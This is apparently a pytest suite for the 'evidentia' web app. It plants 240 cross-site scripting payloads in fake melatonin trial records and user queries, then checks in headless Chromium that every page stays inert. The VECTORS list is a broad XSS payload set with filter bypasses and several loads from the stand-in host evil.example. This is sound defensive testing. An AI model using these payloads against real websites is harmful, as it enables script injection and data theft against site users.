"""XSS: 240 payloads in titles, abstracts, authors, journals, DOIs and user strings; every page in Chromium.

One library is built from the payloads and one server renders all of its pages. For each page:
no dialog, ``window.__xss`` never set, no CSP violation (nothing even tried to run), no request
to any host but 127.0.0.1, and no element that carries an event handler or runs script.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest

from evidentia import pipeline
from evidentia.config import Settings
from evidentia.web import create_app
from evidentia.web.server import serve_in_thread

CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", "--no-first-run"]

if not CHROMIUM.exists():
    pytest.skip(f"{CHROMIUM} not found: install it with `apt-get install -y chromium`", allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")

OFFLINE = "sources.offline=true"  # answers come from the test library only: no network
SET = "window.__xss=1"
VECTORS = [
    f"<script>{SET}</script>",
    f'<img src=x onerror="{SET}">',
    f"<svg onload={SET}>",
    '<iframe src="javascript:parent.__xss=1"></iframe>',
    f"<body onload={SET}>",
    f"<details open ontoggle={SET}>",
    f"<input autofocus onfocus={SET}>",
    f'<a href="javascript:{SET}">click</a>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={SET}>",
    '<script src="http://evil.example/x.js"></script>',
    '<img src="http://evil.example/pixel.png">',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    '<base href="http://evil.example/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{SET}">',
    f'<object data="javascript:{SET}"></object>',
    f'<embed src="javascript:{SET}">',
    f'<video><source onerror="{SET}"></video>',
    "<style>@import 'http://evil.example/x.css';</style>",
    f"<svg><script>{SET}</script></svg>",
    '<form action="http://evil.example/"><button>go</button></form>',
    "javascript:alert(1)",
    f'" onmouseover="{SET}" autofocus onfocus="{SET}" x="',
    f"' onfocus='{SET}' autofocus x='",
    "<x onclick=alert(1)>click</x>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(document.domain)</script>",
    f'<noscript><p title="</noscript><img src=x onerror={SET}>">',
    f"<template><script>{SET}</script></template><svg><animate onbegin={SET} attributeName=x dur=1s>",
    f"<marquee onstart={SET}>x</marquee><audio src=x onerror={SET}>",
    f'<svg><a xlink:href="javascript:{SET}"><text x=20 y=20>x</text></a></svg>',
    '<div style="background:url(http://evil.example/bg.png)">styled</div>',
    '<img srcset="http://evil.example/a.png 1x"><link rel=prefetch href="http://evil.example/">',
    f"<textarea autofocus onfocus={SET}></textarea><select autofocus onfocus={SET}></select>",
    "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
    f"{{{{7*7}}}}{{% raw %}}<script>{SET}</script>",
    f"<scr<script>ipt>{SET}</scr</script>ipt>",
    f"<IMG SRC=JaVaScRiPt:{SET}>",
    f"<svg/onload={SET}>",
    f"<img src=`x` onerror={SET}>",
    f"\u2028<script>{SET}</script>\u2029",
]
CONTEXTS = ["", '">', "'>", "</title>", "</textarea>", "-->"]
PAYLOADS = [context + vector for vector in VECTORS for context in CONTEXTS]
PAPERS = 60  # each paper carries four payloads (title, abstract, authors, journal)


def _records() -> list[dict[str, Any]]:
    records = []
    for index in range(PAPERS):
        title, abstract, author, journal = (PAYLOADS[(4 * index + part) % len(PAYLOADS)] for part in range(4))
        records.append({
            "pmid": str(9_000_000 + index),
            "doi": f"10.5555/x{index}\"><svg/onload={SET}>",
            "title": f"Melatonin and jet lag {title} trial {index}",
            "abstract": f"We randomised {40 + index} adults with jet lag to melatonin 5 mg or placebo. {abstract} "
                        f"Melatonin reduced jet lag (p = 0.01).",
            "authors": [author, "Smith J"],
            "journal": journal,
            "year": 1990 + index % 30,
            "publication_types": ["Randomized Controlled Trial"],
        })
    return records


def test_the_payload_set_is_large_and_covers_every_field() -> None:
    assert len(PAYLOADS) >= 200
    used = {PAYLOADS[(4 * i + part) % len(PAYLOADS)] for i in range(PAPERS) for part in range(4)}
    assert used == set(PAYLOADS)


@pytest.fixture(scope="module")
def base_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("web-xss")
    records = folder / "payloads.jsonl"
    records.write_text("\n".join(json.dumps(r) for r in _records()) + "\n", encoding="utf-8")
    settings = Settings.load(None, [f"library.path={folder / 'library.sqlite'}", OFFLINE])
    summary = pipeline.add([records], settings)
    assert summary.added == PAPERS, summary
    with serve_in_thread(create_app(settings)) as url:
        yield url


WATCH = """window.__csp = [];
document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective));"""

# Elements or attributes that would mean markup from the data got into the page.
INJECTED = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on')) bad.push(el.tagName + ' ' + attr.name);
      if (/^\\s*javascript:/i.test(attr.value) && ['href', 'src', 'action', 'data', 'xlink:href'].includes(attr.name))
        bad.push(el.tagName + ' ' + attr.name + '=javascript:');
    }
  }
  for (const el of document.querySelectorAll('iframe, object, embed, base, frame, template, noscript, style, x, marquee'))
    bad.push(el.tagName);
  for (const el of document.querySelectorAll('script'))
    if (!(el.getAttribute('src') || '').startsWith('/static/')) bad.push('inline script');
  for (const el of document.querySelectorAll('meta[http-equiv]'))
    if (el.getAttribute('content') !== '1') bad.push('meta ' + el.getAttribute('content'));
  return bad;
}"""


@pytest.fixture(scope="module")
def page(base_url: str) -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        context = browser.new_context()
        context.add_init_script(WATCH)
        page = context.new_page()
        page.set_default_timeout(15_000)
        page.foreign = []  # type: ignore[attr-defined]
        page.dialogs = []  # type: ignore[attr-defined]

        def route(handled: Any) -> None:
            if urlsplit(handled.request.url).hostname != "127.0.0.1":
                page.foreign.append(handled.request.url)  # type: ignore[attr-defined]
                handled.abort()
            else:
                handled.continue_()

        def dialog(opened: Any) -> None:
            page.dialogs.append(opened.message)  # type: ignore[attr-defined]
            opened.dismiss()

        context.route("**/*", route)
        page.on("dialog", dialog)
        yield page
        browser.close()


def _visit(page: Any, url: str) -> None:
    page.goto(url, wait_until="load")
    page.wait_for_timeout(30)  # let any autofocus or onload handler fire, if one got in
    assert page.dialogs == [], url
    assert page.evaluate("typeof window.__xss") == "undefined", url
    assert page.evaluate("window.__csp") == [], url
    assert page.evaluate(INJECTED) == [], url
    assert page.foreign == [], url


def test_library_pages_are_inert(page: Any, base_url: str) -> None:
    for path in ("/", "/library", "/search/batch", "/search?q=melatonin+jet+lag"):
        _visit(page, base_url + path)
    assert page.locator(".hits li").count() == 50  # the search page lists the payload titles


def test_report_page_is_inert_and_shows_payloads_as_text(page: Any, base_url: str) -> None:
    _visit(page, f"{base_url}/report?q=Does+melatonin+reduce+jet+lag%3F&k=60")
    assert page.locator("article.study-card").count() == PAPERS
    assert page.locator("svg.evidence-map circle.mark").count() == PAPERS
    text = page.locator("main").inner_text()
    shown = [payload for payload in PAYLOADS if " ".join(payload.split()) in " ".join(text.split())]
    assert len(shown) > 50  # payloads appear as literal text (titles, authors, journals)
    _visit(page, f"{base_url}/report/check?q=Does+melatonin+reduce+jet+lag%3F&k=60")  # spans and titles
    assert page.locator("li.verdict").count() > 0


def test_every_paper_page_is_inert(page: Any, base_url: str) -> None:
    for index in range(PAPERS):
        _visit(page, f"{base_url}/paper/pmid:{9_000_000 + index}")
        assert page.locator("h1").count() == 1


@pytest.mark.parametrize("payload", PAYLOADS[::12])
def test_user_strings_are_inert(page: Any, base_url: str, payload: str) -> None:
    quoted = quote(f"melatonin {payload}", safe="")
    _visit(page, f"{base_url}/report?q={quoted}")
    _visit(page, f"{base_url}/report/check?q={quoted}")
    _visit(page, f"{base_url}/search?q={quoted}")
    _visit(page, f"{base_url}/paper/{quote(payload, safe='')}")


def test_job_page_title_is_inert(page: Any, base_url: str) -> None:
    _visit(page, f"{base_url}/")
    page.fill("textarea[name=q]", f"melatonin {VECTORS[0]} {VECTORS[1]}")
    page.click("form[data-job-form] button[type=submit]")
    page.wait_for_url("**/report?**")
    _visit(page, page.url)
